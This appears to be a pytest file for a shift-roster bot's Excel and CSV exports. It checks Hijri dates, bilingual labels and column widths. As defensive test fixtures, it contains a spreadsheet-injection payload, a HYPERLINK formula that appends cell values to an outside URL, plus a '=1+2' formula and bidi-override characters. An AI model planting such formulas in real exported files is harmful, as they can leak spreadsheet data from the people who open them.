"""Exports that can be handed out: values never formulas, clean text, real dates with Hijri
columns, words instead of codes in both languages, widths that fit, and CSV that Excel reads."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.export import Column, Kind, Table, csv_file, shifts_table, workbook
from bot.i18n import use_locale

TZ = ZoneInfo("Asia/Riyadh")
TITLE = '=HYPERLINK("https://example.org/?"&B2&C2,"Open roster")'


def _shift(**overrides: object) -> dict[str, object]:
    row: dict[str, object] = {
        "shift_id": 7, "need_id": 3, "name_ar": "الهلال الأحمر", "name_en": "Red Crescent",
        "title": TITLE, "specialty": "healthcare", "site_name": "=1+2", "need_status": "approved",
        "shift_status": "open", "starts_at": "2026-05-20T05:00:00+00:00",
        "ends_at": "2026-05-20T11:00:00+00:00", "slots": 20, "accepted": 4,
    }
    row.update(overrides)
    return row


def _sheet_rows(content: bytes) -> list[tuple[object, ...]]:
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))


def test_a_formula_typed_as_a_title_comes_out_as_text() -> None:
    with use_locale("en"):
        content = workbook([shifts_table([_shift()])], TZ)
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    site = sheet.cell(row=2, column=header.index("Site") + 1)
    assert title.value == TITLE and title.data_type == "s"
    assert site.value == "=1+2" and site.data_type == "s"


def test_control_and_bidi_override_characters_are_removed() -> None:
    with use_locale("en"):
        content = workbook([shifts_table([_shift(title="Guides\x07 at \u202eQuba\x00")])], TZ)
    header, row = _sheet_rows(content)
    assert row[header.index("Title")] == "Guides at Quba"


def test_dates_are_real_dates_in_office_time_with_a_hijri_column() -> None:
    with use_locale("en"):
        content = workbook([shifts_table([_shift()])], TZ)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    starts = sheet.cell(row=2, column=header.index("Starts at") + 1)
    assert starts.value == datetime(2026, 5, 20, 8, 0)
    assert starts.number_format == "yyyy-mm-dd hh:mm"
    assert header[header.index("Starts at") + 1] == "Starts at (Hijri)"
    assert sheet.cell(row=2, column=header.index("Starts at") + 2).value == "1447-12-03"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}2"
    widths = {sheet.column_dimensions[c.column_letter].width for c in sheet[1]}
    assert min(widths) >= 8 and max(widths) <= 60
    title_width = sheet.column_dimensions[sheet.cell(row=1, column=header.index("Title") + 1).column_letter].width
    assert title_width >= len(TITLE) or title_width == 60


def test_statuses_and_lists_are_in_the_readers_language() -> None:
    table_rows = [{"names": ["أ", "ب", "ج"]}]
    with use_locale("ar"):
        content = workbook([shifts_table([_shift()])], TZ)
        header, row = _sheet_rows(content)
        assert row[header.index("حالة الاحتياج")] == "معتمدة"
        assert row[header.index("الجهة")] == "الهلال الأحمر"
        listed = workbook([Table("t", [Column("n", lambda r: r["names"], Kind.LIST)], table_rows)], TZ)
        assert _sheet_rows(listed)[1][0] == "أ وب وج"
    with use_locale("en"):
        header, row = _sheet_rows(workbook([shifts_table([_shift()])], TZ))
        assert row[header.index("Need status")] == "approved" and row[header.index("Entity")] == "Red Crescent"


def test_csv_has_a_bom_and_neutralised_formulas() -> None:
    with use_locale("ar"):
        content = csv_file(shifts_table([_shift()]), TZ)
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert "العنوان" in rows[0] or "عنوان" in "".join(rows[0])
    assert f"'{TITLE}" in rows[1] and "'=1+2" in rows[1]
    assert "2026-05-20 08:00" in rows[1] and "1447-12-03" in rows[1]
